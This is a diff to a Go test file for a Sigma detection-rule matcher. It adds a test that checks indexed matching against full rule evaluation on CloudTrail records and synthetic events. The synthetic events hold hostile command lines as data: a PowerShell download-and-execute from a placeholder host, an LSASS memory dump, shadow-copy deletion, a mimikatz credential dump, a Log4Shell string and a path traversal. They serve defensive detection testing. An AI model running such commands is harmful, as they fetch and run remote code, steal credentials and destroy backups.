@@ -125,3 +125,34 @@ func TestCloudTrailMatches(t *testing.T) {
 		"Potential Malicious Usage of CloudTrail System Manager": 3,
 	}, counts, "the same that RSigma 0.23 finds")
 }
+
+// TestIndexAgreesOnPublicRules holds that the index decides as evaluating every
+// rule does, on CloudTrail records and on events made of the rules' own values.
+func TestIndexAgreesOnPublicRules(t *testing.T) {
+	set, _ := load(t, corpora(t, "sigmahq", "rules"))
+	events := cloudTrail(t, corpora(t, "stratus"))
+	events = events[:min(len(events), 40)]
+	for _, e := range []string{
+		`{"Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\POWERSHELL.exe","CommandLine":"powershell -nop -w hidden -EncodedCommand SQBFAFgA; IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"NT AUTHORITY\\SYSTEM","OriginalFileName":"PowerShell.EXE"}`,
+		`{"Image":"\\rundll32.exe","CommandLine":"rundll32 comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full","ParentCommandLine":"","EventID":1}`,
+		`{"TargetFilename":"C:\\Users\\Public\\payload.exe","Image":["C:\\Windows\\explorer.exe",{"x":"\\cmd.exe"}],"EventID":"11"}`,
+		`{"message":"User noc executed: show running-config","CommandLine":{"a":"vssadmin delete shadows /all","b":["mimikatz ","SEKURLSA::logonpasswords"]},"Image":{"x":"\\vssadmin.exe"}}`,
+		`{"TargetObject":"HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x","Details":"C:\\Users\\Public\\a.exe","EventType":"SetValue","EventID":4.657e3}`,
+		`{"cs-uri-query":"/a?x=${jndi:ldap://x}","c-uri":"/../../etc/passwd","cs-method":"GET","sc-status":200,"exe":"/usr/bin/curl"}`, `{}`,
+	} {
+		events = append(events, []byte(e))
+	}
+	m := set.Matcher()
+	matched := 0
+	for _, e := range events {
+		got := m.Match(sigma.Event{Raw: e}, nil)
+		require.NoError(t, m.Err())
+		matched += len(got)
+		all := m.Directly()
+		require.Equal(t, len(all), len(got), "%s", e) //nolint:testifylint // Len would print every rule
+		for i := range all {
+			require.Equal(t, all[i].ID, got[i].ID, "%s", e)
+		}
+	}
+	require.Greater(t, matched, 100)
+}
